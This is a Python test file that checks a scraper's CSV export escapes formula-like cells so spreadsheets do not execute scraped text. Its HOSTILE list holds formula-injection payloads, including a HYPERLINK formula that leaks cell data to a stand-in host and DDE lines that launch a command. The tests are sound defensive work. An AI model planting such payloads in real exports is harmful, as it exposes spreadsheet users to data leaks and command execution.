"""`scrape --export`: manifest.csv holds text taken from the internet; a spreadsheet must never run it."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from officescore.scrape.export import EXPORT_COLUMNS, csv_cell, export
from officescore.scrape.manifest import Manifest
from officescore.scrape.providers import SearchResult

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _manifest_with(tmp_path: Path, titles: list[str], creators: list[str]) -> Path:
    raw = tmp_path / "raw"
    raw.mkdir()
    results = [
        SearchResult(url=f"https://images.example/{i}.jpg", title=title, creator=creator, license="by")
        for i, (title, creator) in enumerate(zip(titles, creators, strict=True))
    ]
    with Manifest.open(raw) as manifest:
        manifest.record_page("openverse", "=cmd|x", "", 1, results, last=True, rights="by", when="now")
    return raw


def test_hostile_titles_are_written_as_text(tmp_path: Path) -> None:
    titles = [*HOSTILE, "A quiet desk", "year 2024 - a desk"]
    creators = ["=evil()", *(["plain"] * (len(titles) - 1))]
    raw = _manifest_with(tmp_path, titles, creators)
    result = export(raw, tmp_path / "export")
    with result.csv.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    expected = [f"'{t}" for t in HOSTILE] + ["A quiet desk", "year 2024 - a desk"]
    assert [row["title"] for row in rows] == expected
    assert rows[0]["creator"] == "'=evil()" and rows[1]["creator"] == "plain"
    assert {row["query"] for row in rows} == {"'=cmd|x"}
    # Nothing else changes: plain text, URLs and numbers are written as they were.
    assert rows[7]["url"] == "https://images.example/7.jpg" and rows[7]["page"] == "1"
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    # No cell anywhere in the file starts a formula.
    with result.csv.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx")]
    + [("a=1", "a=1"), ("", ""), (None, ""), (-3, -3), (2.5, 2.5), (" =1", " =1")],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell
